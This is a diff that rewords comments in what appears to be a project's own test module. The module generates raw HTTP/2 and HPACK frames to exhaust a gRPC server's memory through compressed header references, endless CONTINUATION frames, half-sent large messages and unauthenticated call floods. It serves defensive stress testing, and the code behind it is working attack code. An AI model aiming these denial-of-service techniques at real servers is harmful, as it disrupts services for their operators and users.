@@ -1,9 +1,9 @@
-"""What a client without a token can send over HTTP/2 to take a server's memory.
+"""Attacks on a server's memory over HTTP/2 by a client without a token.
 
 python -m tests.attack.attacks ATTACK ACKNOWLEDGEMENT HOST PORT SECONDS
 
-It prints the bytes that it sent. Frames are those of RFC 9113, headers those of RFC 7541.
-ATTACK_CONNECTIONS is how many connections it keeps; 8 unless set.
+It prints the number of bytes sent. Frames follow RFC 9113, and headers follow RFC 7541.
+ATTACK_CONNECTIONS is the number of connections, by default 8.
 """
 
 from __future__ import annotations
@@ -20,18 +20,18 @@ __all__ = ["ACKNOWLEDGEMENTS", "ATTACKS", "main"]
 
 CONNECTIONS = int(os.environ.get("ATTACK_CONNECTIONS", "8"))
 SOURCE = "127.0.0.2"
-"""Of the connections: limits for each address do not meet the good clients."""
-BYTES_MAX = 64 << 20  # Of one connection.
+"""Address of the attacker. Limits per address then do not affect good clients."""
+BYTES_MAX = 64 << 20  # For one connection.
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 DATA, HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 0, 1, 3, 4, 9
 END_STREAM, END_HEADERS, ACK = 1, 4, 1
 PREDICT = b"/embershard.v1.Predictor/Predict"
 CHECK, WATCH = b"/grpc.health.v1.Health/Check", b"/grpc.health.v1.Health/Watch"
 STREAMS_MAX = 2**31 - 1
-BATCH = 10  # Calls that are sent at once.
-VALUE_CHARS = 3000  # Of the header that is referred to: it fits the default table of 4096 bytes.
-FRAME_BYTES = 16_000  # A frame has at most 16,384.
-LIST_BYTES_MAX = 16 << 20  # Of a header list, until the server's settings are acknowledged.
+BATCH = 10  # Number of calls that are sent at once.
+VALUE_CHARS = 3000  # For `references`: the header fits the default table of 4096 bytes.
+FRAME_BYTES = 16_000  # The limit for a frame is 16,384.
+LIST_BYTES_MAX = 16 << 20  # gRPC's limit before the settings' ACK.
 ENDLESS_CHARS = 1 << 30
 ACKNOWLEDGEMENTS = ("correct", "early", "missing")
 
@@ -41,7 +41,7 @@ def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
 
 
 def integer(value: int, bits: int) -> bytes:
-    """RFC 7541, section 5.1, behind a prefix of zeros."""
+    """An integer of RFC 7541, section 5.1. The bits before it in its first byte are 0."""
     most = (1 << bits) - 1
     if value < most:
         return bytes([value])
@@ -56,7 +56,7 @@ def literal(name: bytes, value: bytes) -> bytes:
 
 
 def call_headers(path: bytes, *extra: bytes) -> bytes:
-    """Of a call, without any compression: RFC 7541, section 6.2.2."""
+    """Headers of a call without compression: RFC 7541, section 6.2.2."""
     return b"".join(
         [
             literal(b":method", b"POST"),
@@ -81,7 +81,7 @@ def empty_message(stream: int) -> bytes:
 def references(
     stream: int, path: bytes = CHECK, chars: int = VALUE_CHARS, count: int = 8 * FRAME_BYTES
 ) -> bytes:
-    """A header in the table of the connection, then frames that name it byte by byte."""
+    """Adds a header to the table of the connection. Each byte of the next frames refers to it."""
     added = b"\x40" + integer(1, 7) + b"x" + integer(chars, 7) + b"v" * chars
     first = frame(HEADERS, 0, stream, call_headers(path) + added)
     sizes = [min(FRAME_BYTES, count - sent) for sent in range(0, count, FRAME_BYTES)]
@@ -90,14 +90,15 @@ def references(
 
 
 def large_list(stream: int) -> bytes:
-    """A watch with as many references as gRPC takes, which it keeps as long as the watch."""
+    """A watch with the most references that gRPC accepts, which it keeps until the watch ends."""
     chars = 247
-    count = LIST_BYTES_MAX // (1 + chars + 32) - 4  # RFC 7541, section 4.1; less the call's own.
+    # Sizes are those of RFC 7541, section 4.1. Four entries less leave room for the call's headers.
+    count = LIST_BYTES_MAX // (1 + chars + 32) - 4
     return references(stream, WATCH, chars, count) + empty_message(stream)
 
 
 def endless_block(stream: int) -> bytes:
-    """The beginning of one header, then frames of its value."""
+    """The beginning of a header, then frames that continue its value."""
     if stream > 1:
         return frame(CONTINUATION, 0, 1, b"v" * FRAME_BYTES)
     return frame(HEADERS, 0, 1, b"\0" + integer(1, 7) + b"x" + integer(ENDLESS_CHARS, 7))
@@ -112,7 +113,7 @@ def without_token(stream: int) -> bytes:
 
 
 def indexed(stream: int) -> bytes:
-    """Without a token, in 15 bytes: the first call puts its headers into the connection's table."""
+    """A call without a token in 15 bytes. The first call puts its headers into the table."""
     if stream > 1:
         return begin(stream, b"\x83\x86\xc1\xc0\xbf\xbe")
     named = [
@@ -122,7 +123,7 @@ def indexed(stream: int) -> bytes:
         (b"content-type", b"application/grpc"),
     ]
     added = (b"\x40" + literal(name, value)[1:] for name, value in named)
-    return begin(stream, b"\x83\x86" + b"".join(added))  # POST, http.
+    return begin(stream, b"\x83\x86" + b"".join(added))  # 83 is POST, 86 is http.
 
 
 def watch(stream: int) -> bytes:
@@ -130,7 +131,7 @@ def watch(stream: int) -> bytes:
 
 
 def half_sent(stream: int) -> bytes:
-    """The headers, and of a message of 60 MiB the first bytes."""
+    """The headers and the first bytes of a message of 60 MiB."""
     return begin(stream, call_headers(CHECK)) + frame(
         DATA, 0, stream, struct.pack(">BI", 0, 60 << 20) + bytes(100)
     )
@@ -145,10 +146,10 @@ def expired(stream: int) -> bytes:
 
 
 PAUSED_SECONDS = {"large header lists": 0.5}
-"""Between batches, of attacks that are no flood of calls."""
+"""Pause between batches, for attacks that are no flood of calls."""
 ATTACKS: dict[str, tuple[Callable[[int], bytes], bytes]] = {
     "header references": (references, b""),
-    "unread answers": (unread_answer, struct.pack(">HI", 4, 0)),  # INITIAL_WINDOW_SIZE = 0.
+    "unread answers": (unread_answer, struct.pack(">HI", 4, 0)),  # INITIAL_WINDOW_SIZE is 0.
     "calls without a token": (without_token, b""),
     "indexed calls": (indexed, b""),
     "health watches": (watch, b""),
@@ -161,14 +162,14 @@ ATTACKS: dict[str, tuple[Callable[[int], bytes], bytes]] = {
 
 
 def attack(name: str, acknowledgement: str, address: tuple[str, int], until: float) -> int:
-    """Connects again and again. Gives the bytes that were sent."""
+    """Connects again and again. Returns the number of bytes sent."""
     sent = 0
     while time.monotonic() < until:
         try:
             with socket.create_connection(address, 1, (SOURCE, 0)) as connection:
-                for some in bytes_of(name, acknowledgement, connection, until):
-                    connection.sendall(some)
-                    sent += len(some)
+                for part in bytes_of(name, acknowledgement, connection, until):
+                    connection.sendall(part)
+                    sent += len(part)
         except OSError:  # The server has closed the connection, or reads no more.
             time.sleep(0.01)
     return sent
@@ -190,24 +191,24 @@ def bytes_of(
     for first in range(1, STREAMS_MAX, 2 * BATCH):
         if time.monotonic() >= until:
             return
-        if total >= BYTES_MAX:  # What is open stays open until the end.
+        if total >= BYTES_MAX:  # Open streams stay open until the end.
             time.sleep(0.01)
             continue
-        some = b"".join(make(stream) for stream in range(first, first + 2 * BATCH, 2))
-        total += len(some)
-        yield some
+        batch = b"".join(make(stream) for stream in range(first, first + 2 * BATCH, 2))
+        total += len(batch)
+        yield batch
         time.sleep(PAUSED_SECONDS.get(name, 0))
 
 
 def read_all(connection: socket.socket) -> None:
-    """Answers are read and dropped, so that the server's writes do not end the attack."""
+    """Reads and drops answers, so that the server's writes do not end the attack."""
     while True:
         try:
             if not connection.recv(1 << 16):
                 return
-        except TimeoutError:  # Nothing was sent for a second.
+        except TimeoutError:  # The server sent nothing for a second.
             continue
-        except OSError:  # Closed.
+        except OSError:  # The connection is closed.
             return
 
 
